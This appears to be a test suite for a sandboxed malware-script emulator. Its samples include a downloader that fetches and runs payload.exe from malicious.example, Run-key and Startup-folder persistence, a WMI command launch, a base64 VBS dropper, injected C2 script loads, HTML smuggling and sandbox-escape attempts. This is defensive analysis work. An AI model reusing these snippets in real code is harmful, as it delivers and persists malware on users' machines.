import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { obfuscatedDropper } from '../test-samples';
import { DEFAULT_EMULATION_OPTIONS, emulate, EmulationOptions, EmulationResult, FAKE_PE } from './emulator';

/**
 * The emulator on scripts written here (harmless by construction: the "downloads" go to reserved
 * `.example` names and only ever reach the emulated XMLHTTP object).
 */

const run = (code: string | string[], options: Partial<EmulationOptions> = {}): Promise<EmulationResult> =>
  emulate((Array.isArray(code) ? code : [code]).map((c, i) => ({ code: c, label: `source${i}` })), { ...DEFAULT_EMULATION_OPTIONS, fileName: 'sample.js', environment: 'wsh', ...options });
const calls = (r: EmulationResult, ...categories: string[]) => r.records.filter((x) => categories.includes(x.category)).map((x) => [x.api, ...x.args]);
const echoes = (r: EmulationResult) => r.records.filter((x) => x.api === 'WScript.Echo').map((x) => x.args.join(' '));

const TEMP = 'C:\\Users\\user\\AppData\\Local\\Temp';

describe('JavaScript emulation (isolated-vm)', () => {
  it('records an obfuscated dropper: the request, the saved file and the run command, in order', async () => {
    const r = await run(obfuscatedDropper());
    expect(r.outcome).toBe('completed');
    expect(calls(r, 'network', 'file', 'process')).toEqual([
      ['MSXML2.XMLHTTP.open', 'GET', 'http://malicious.example/payload.exe'],
      ['MSXML2.XMLHTTP.send', 'GET', 'http://malicious.example/payload.exe', ''],
      ['ADODB.Stream.SaveToFile', `${TEMP}\\payload.exe`, `${FAKE_PE.length} bytes`, 'content from http://malicious.example/payload.exe'],
      ['WScript.Shell.Run', `${TEMP}\\payload.exe`, '0', 'false'],
    ]);
    expect(r.records[0]).toMatchObject({ api: 'eval', category: 'eval' });
    expect(r.layers).toHaveLength(1);
    expect(r.layers[0].technique).toBe('emulation:eval');
    expect(r.layers[0].text.startsWith('var x = new ActiveXObject("MSXML2.XMLHTTP");')).toBe(true);
    expect(r.drops).toHaveLength(1);
    expect(r.drops[0]).toMatchObject({ path: `${TEMP}\\payload.exe`, source: 'http://malicious.example/payload.exe', api: 'ADODB.Stream.SaveToFile' });
    expect(Buffer.from(r.drops[0].data).toString('latin1')).toBe(FAKE_PE);
  });

  it('resolves COM members case-insensitively and keeps going past unknown ProgIDs and members', async () => {
    const r = await run('var sh = WScript.CreateObject("wscript.shell"); sh.rUN("notepad.exe"); var o = new ActiveXObject("Contoso.Unknown.1"); o.DoThing(1, "a").Deeper.Call(); o.Flag = 3; WScript.echo("still running", typeof o.Flag);');
    expect(calls(r, 'process')).toEqual([['WScript.Shell.Run', 'notepad.exe', '1', 'false']]);
    expect(r.records.map((x) => x.api)).toEqual(expect.arrayContaining(['Contoso.Unknown.1.DoThing', 'Contoso.Unknown.1.DoThing().Deeper.Call', 'Contoso.Unknown.1.Flag =']));
    expect(echoes(r)).toEqual(['still running number']);
  });

  it('models FileSystemObject, registry, WMI and special folders', async () => {
    const r = await run([
      'var fso = new ActiveXObject("Scripting.FileSystemObject"); var sh = new ActiveXObject("WScript.Shell");',
      'var f = fso.CreateTextFile(fso.GetSpecialFolder(2) + "\\\\upd.vbs", true); f.WriteLine("MsgBox 1"); f.Close();',
      'sh.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater", "wscript.exe " + fso.GetSpecialFolder(2) + "\\\\upd.vbs", "REG_SZ");',
      'fso.CopyFile(fso.GetSpecialFolder(2) + "\\\\upd.vbs", sh.SpecialFolders("Startup") + "\\\\");',
      'GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2").Get("Win32_Process").Create("cmd /c whoami", null, null, 0);',
      'var e = new Enumerator(GetObject("winmgmts:").ExecQuery("SELECT * FROM AntiVirusProduct")); WScript.Echo(e.item().displayName, fso.FileExists(WScript.ScriptFullName));',
      'try { sh.RegRead("HKLM\\\\SOFTWARE\\\\Contoso\\\\Installed"); } catch (err) { WScript.Echo("not installed"); }',
    ].join('\n'));
    const startup = 'C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup';
    expect(calls(r, 'file', 'registry', 'process')).toEqual([
      ['FileSystemObject.CreateTextFile', `${TEMP}\\upd.vbs`, '10 bytes', ''],
      ['WScript.Shell.RegWrite', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', `wscript.exe ${TEMP}\\upd.vbs`, 'REG_SZ'],
      ['FileSystemObject.CopyFile', `${startup}\\upd.vbs`, '10 bytes', ''],
      ['WMI.Win32_Process.Create', 'cmd /c whoami', ''],
      ['FileSystemObject.FileExists', 'C:\\Users\\user\\Downloads\\sample.js', 'true'],
      ['WScript.Shell.RegRead', 'HKLM\\SOFTWARE\\Contoso\\Installed'],
    ]);
    expect(echoes(r)).toEqual(['Windows Defender true', 'not installed']);
    expect(r.drops.map((d) => [d.path, Buffer.from(d.data).toString('latin1')])).toEqual([
      [`${TEMP}\\upd.vbs`, 'MsgBox 1\r\n'],
      [`${startup}\\upd.vbs`, 'MsgBox 1\r\n'],
    ]);
  });

  it('sleeps on a fake clock (no wall time) and is deterministic from run to run', async () => {
    const code = 'var t = new Date(); WScript.Sleep(600000); var dt = new Date() - t; WScript.Echo(dt >= 600000, Math.random().toFixed(6), new Date().toISOString());';
    const started = Date.now();
    const [a, b] = [await run(code), await run(code)];
    expect(Date.now() - started).toBeLessThan(2000);
    expect(echoes(a)[0].startsWith('true 0.')).toBe(true);
    expect(echoes(a)).toEqual(echoes(b));
    expect(a.sleepMs).toBe(600000);
  });

  it('decodes base64 the JScript way (MSXML bin.base64 → ADODB.Stream) and drops the decoded file', async () => {
    const payload = 'Set o = CreateObject("WScript.Shell")\r\no.Run "calc.exe"\r\n';
    const r = await run(`var d = new ActiveXObject("MSXML2.DOMDocument").createElement("b64"); d.dataType = "bin.base64"; d.text = "${Buffer.from(payload).toString('base64')}";
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(d.nodeTypedValue); s.SaveToFile("C:\\\\ProgramData\\\\x.vbs", 2);
new ActiveXObject("Shell.Application").ShellExecute("wscript.exe", "C:\\\\ProgramData\\\\x.vbs", "", "open", 0);`);
    expect(Buffer.from(r.drops[0].data).toString('latin1')).toBe(payload);
    expect(calls(r, 'process')).toEqual([['Shell.Application.ShellExecute', 'wscript.exe', 'C:\\ProgramData\\x.vbs', '', 'open', '0']]);
  });

  it('runs what a page writes: document.write of a script, then the navigation it makes', async () => {
    const r = await run('var a = "<scr" + "ipt>"; document.write(a + "var u = \'http://malicious.example/landing\'; window.location = u;" + "</scr" + "ipt>");', { environment: 'browser' });
    expect(r.layers.map((l) => [l.technique, l.language, l.text])).toEqual([
      ['emulation:document.write', 'html', "<script>var u = 'http://malicious.example/landing'; window.location = u;</script>"],
      ['emulation:document.write/script', 'javascript', "var u = 'http://malicious.example/landing'; window.location = u;"],
    ]);
    expect(calls(r, 'network')).toEqual([['window.location', 'http://malicious.example/landing']]);
  });

  it('runs script elements a page creates, records the ones it loads, and reads the page for getElementById', async () => {
    const html = '<html><body><div id="cfg" style="display:none">aHR0cDovL21hbGljaW91cy5leGFtcGxlL2MyLmpz</div></body></html>';
    const code = [
      'var s = document.createElement("script"); s.text = "window.stage = atob(document.getElementById(\'cfg\').innerHTML);"; document.head.appendChild(s);',
      'var t = document.createElement("script"); t.src = window.stage; document.body.appendChild(t);',
      'var f = document.createElement("iframe"); f.setAttribute("src", "http://malicious.example/frame.html"); document.body.appendChild(f);',
    ].join('\n');
    const r = await run(code, { environment: 'browser', html });
    expect(r.layers.map((l) => [l.technique, l.text])).toEqual([['emulation:script-element', "window.stage = atob(document.getElementById('cfg').innerHTML);"]]);
    expect(calls(r, 'network')).toEqual([
      ['script.src', 'http://malicious.example/c2.js'],
      ['iframe.src', 'http://malicious.example/frame.html'],
    ]);
  });

  it('catches HTML smuggling: a Blob offered as a download becomes a dropped file', async () => {
    const r = await run('var bytes = new Uint8Array([77, 90, 144, 0]); var b = new Blob([bytes], { type: "application/octet-stream" }); var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.exe"; document.body.appendChild(a); a.click();', { environment: 'browser' });
    expect(r.drops).toHaveLength(1);
    expect(r.drops[0]).toMatchObject({ path: 'C:\\Users\\user\\Downloads\\invoice.exe', source: 'script-built blob', api: 'a.download(blob)' });
    expect([...r.drops[0].data]).toEqual([77, 90, 144, 0]);
  });

  it('stops an endless loop at its time budget, keeping what was recorded before', async () => {
    const started = Date.now();
    const r = await run('WScript.Echo("before the loop"); while (true) {}', { timeoutMs: 1000 });
    const elapsed = Date.now() - started;
    expect(r.outcome).toBe('timeout');
    expect(r.message).toBe('emulation stopped after its 1000 ms budget');
    expect(echoes(r)).toEqual(['before the loop']);
    expect(elapsed).toBeGreaterThanOrEqual(950);
    expect(elapsed).toBeLessThan(3000);
  });

  it('stops an allocation storm at the memory limit; the process (and later emulations) are unaffected', async () => {
    const heapBefore = process.memoryUsage().heapUsed;
    const r = await run('WScript.Echo("allocating"); var a = []; while (1) a.push(new Array(1e6));');
    expect(r.outcome).toBe('memory');
    expect(r.message).toBe('emulation stopped at its 64 MB memory limit');
    expect(echoes(r)).toEqual(['allocating']);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024);
    const after = await run('WScript.Echo("next sample")');
    expect(after.outcome).toBe('completed');
    expect(echoes(after)).toEqual(['next sample']);
  });

  it('gives the sample no host access: require, process and the Function-constructor escape all reach fakes', async () => {
    const hostFile = join(tmpdir(), `emulation-escape-${process.pid}-${Date.now()}`);
    const r = await run([
      `var fs = require("fs"); fs.writeFileSync(${JSON.stringify(hostFile)}, "escaped");`,
      'var p = this.constructor.constructor("return process")();',
      'WScript.Echo(typeof p.mainModule, typeof p.binding, typeof p.dlopen, p.pid, typeof globalThis.__emu_record, Object.getOwnPropertyNames(globalThis).filter(function (n) { return /^__emu/.test(n); }).length);',
      'var f = (function(){}).constructor("return typeof require(\'child_process\').execSync")(); WScript.Echo(f);',
      'p.exit(3);',
      'WScript.Echo("not reached");',
    ].join('\n'));
    expect(existsSync(hostFile)).toBe(false);
    expect(process.exitCode).toBeUndefined();
    expect(r.outcome).toBe('quit');
    expect(echoes(r)).toEqual([`undefined undefined undefined 4242 undefined 0`, 'function']);
    expect(r.records.map((x) => x.api)).toEqual(['require', 'fs.writeFileSync', 'Function', 'WScript.Echo', 'Function', 'require', 'WScript.Echo', 'process.exit']);
    expect(r.records[1].args[0]).toBe(`C:${hostFile.replace(/\//g, '\\')}`);
  });

  it('keeps no state between samples: each file gets a fresh isolate', async () => {
    await run('globalThis.leaked = 1; Object.prototype.polluted = "yes"; Array.prototype.push = function () { return -1; }; WScript.Custom = 5; Date.now = null;');
    const r = await run('var a = []; a.push(1); WScript.Echo(typeof leaked, ({}).polluted, a.length, typeof WScript.Custom, typeof Date.now);');
    // WScript.Custom is the permissive stub of an unknown member again (a function), not the 5 of the first sample.
    expect(echoes(r)).toEqual(['undefined undefined 1 function function']);
  });

  it('bounds what it keeps: records, argument length, layers', async () => {
    const r = await run('for (var i = 0; i < 2000; i++) WScript.Echo("x" + new Array(2000).join("y")); for (var j = 0; j < 100; j++) eval("var k" + j + " = " + j);', { maxRecords: 50, maxArgChars: 100, maxLayers: 5 });
    expect(r.records).toHaveLength(50);
    expect(r.totalRecords).toBe(2100);
    expect(r.records[0].args[0]).toHaveLength(101); // 100 characters and an ellipsis
    expect(r.layers).toHaveLength(5);
  });

  it('reports a syntax error or an uncaught exception as the sample outcome, not a failure', async () => {
    const r = await run(['WScript.Echo("first");', 'this is not javascript', 'throw new TypeError("boom")']);
    expect(r.outcome).toBe('exception');
    expect(r.exceptions).toEqual(['source1: SyntaxError: Unexpected identifier \'is\'', 'source2: TypeError: boom']);
    expect(echoes(r)).toEqual(['first']);
  });
});
